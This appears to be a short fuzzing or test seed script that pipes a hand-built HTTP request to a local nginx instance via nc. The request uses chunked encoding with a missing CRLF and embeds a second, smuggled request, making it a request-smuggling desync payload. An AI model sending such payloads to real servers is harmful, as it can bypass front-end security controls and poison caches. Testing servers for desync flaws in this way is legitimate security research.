#!/bin/sh
# desync/chunk-data-missing-crlf/smuggled-request via seed against nginx
printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding:chunked\r\n\r\n5\r\nBBBB\r\n0\n\r\nG /c HTTP/1.1\r\nHost: st}\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
